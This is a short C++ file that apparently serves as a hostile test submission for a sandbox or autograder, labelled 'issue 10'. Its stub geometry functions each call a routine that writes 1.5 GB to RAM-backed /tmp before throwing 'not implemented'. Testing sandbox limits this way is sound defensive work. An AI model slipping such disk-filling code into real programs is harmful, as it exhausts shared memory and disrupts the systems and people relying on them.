// Hostile (issue 10): fill /tmp (RAM-backed) with 1.5 GB.
#include <cstdio>
#include <vector>
#include <stdexcept>
#include "classify.hpp"
namespace ex01 {
static void attack() {
  std::vector<char> mb(1 << 20, 7);
  if (FILE* f = std::fopen("/tmp/fill", "w")) {
    for (int i = 0; i < 1536; ++i)
      if (std::fwrite(mb.data(), 1, mb.size(), f) != mb.size()) break;
    std::fclose(f);
  }
}
Where where(const t2::Point&) { attack(); throw std::logic_error("where() is not implemented yet"); }
bool same_point(const t2::Point&, const t2::Point&) { attack(); throw std::logic_error("same_point() is not implemented yet"); }
bool antipodal(const t2::Point&, const t2::Point&) { attack(); throw std::logic_error("antipodal() is not implemented yet"); }
}  // namespace ex01
